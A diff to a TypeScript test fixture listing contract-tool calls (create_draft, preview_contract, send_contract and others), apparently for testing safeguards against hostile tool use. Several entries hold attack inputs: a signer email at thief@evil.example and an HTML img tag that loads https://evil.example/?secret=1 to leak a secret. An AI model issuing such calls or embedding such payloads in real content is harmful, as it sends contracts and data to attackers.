@@ -227,12 +227,23 @@ const ORDERS: readonly (readonly [tool: string, args: Record<string, unknown>])[
   ["remind_signer", { id: "ID", role: "A" }],
   ["cancel_contract", { id: "ID" }],
   ["delete_contract", { id: "ID" }],
-  ["create_draft", { ...PAPER, signers: [{ label: "A", email: "thief@evil.example" }] }],
   [
     "create_draft",
-    { ...PAPER, finalize: true, signers: [{ label: "A", email: "thief@evil.example" }] },
+    { ...PAPER, requestId: "a", signers: [{ label: "A", email: "thief@evil.example" }] },
   ],
-  ["create_draft", { content: '<p>x</p><img src="https://evil.example/?secret=1">' }],
+  [
+    "create_draft",
+    {
+      ...PAPER,
+      requestId: "b",
+      finalize: true,
+      signers: [{ label: "A", email: "thief@evil.example" }],
+    },
+  ],
+  [
+    "create_draft",
+    { requestId: "c", content: '<p>x</p><img src="https://evil.example/?secret=1">' },
+  ],
   ["preview_contract", { content: '<p>x</p><img src="https://evil.example/?secret=1">' }],
   ["send_contract", { id: "ID", confirmation: "yes" }],
 ];
